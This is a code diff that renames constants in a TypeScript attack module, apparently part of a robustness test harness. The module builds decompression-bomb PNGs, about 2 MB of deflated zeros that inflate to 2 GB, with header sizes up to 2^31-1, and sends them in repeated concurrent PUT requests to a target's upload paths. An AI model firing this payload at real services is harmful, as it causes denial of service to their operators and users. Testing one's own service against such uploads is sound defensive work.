@@ -8,7 +8,7 @@ import { emptyCompany, productOver } from '../world.ts';
 import { together, type Attack } from './attack.ts';
 
 const MEGABYTE = 1_000_000;
-const INFLATED = 2_000;
+const INFLATED_MEGABYTES = 2_000;
 /** The sizes of the header: little, as much as is there, and as much as a header can hold. */
 const SIZES = [
   [10, 10],
@@ -16,8 +16,8 @@ const SIZES = [
   [4_000, 3_000],
   [2 ** 31 - 1, 2 ** 31 - 1],
 ] as const;
-const ROUNDS = 5;
-const AT_ONCE = 4;
+const ROUND_COUNT = 5;
+const CONCURRENT_REQUESTS = 4;
 
 export const inflatingImages: Attack = {
   name: 'images of 2 MB that inflate to 2 GB',
@@ -32,17 +32,17 @@ export const inflatingImages: Attack = {
     const pixels = await manyZeros();
     const put = (path: string, body: Buffer) => () =>
       target.ask('PUT', path, { body, headers: { 'content-type': 'image/png' } });
-    const works = Array.from({ length: ROUNDS }, () =>
+    const works = Array.from({ length: ROUND_COUNT }, () =>
       SIZES.flatMap((size) => places.map((path) => put(path, pngSaying(size, pixels)))),
     ).flat();
 
-    return { statuses: await together(works, AT_ONCE) };
+    return { statuses: await together(works, CONCURRENT_REQUESTS) };
   },
 };
 
 /** Zeros, compressed, without having all of them at once. */
 async function manyZeros(): Promise<Buffer> {
   const chunk = Buffer.alloc(MEGABYTE);
-  const zeros = Readable.from(Array.from({ length: INFLATED }, () => chunk));
+  const zeros = Readable.from(Array.from({ length: INFLATED_MEGABYTES }, () => chunk));
   return buffer(zeros.pipe(createDeflate({ level: 9 })));
 }
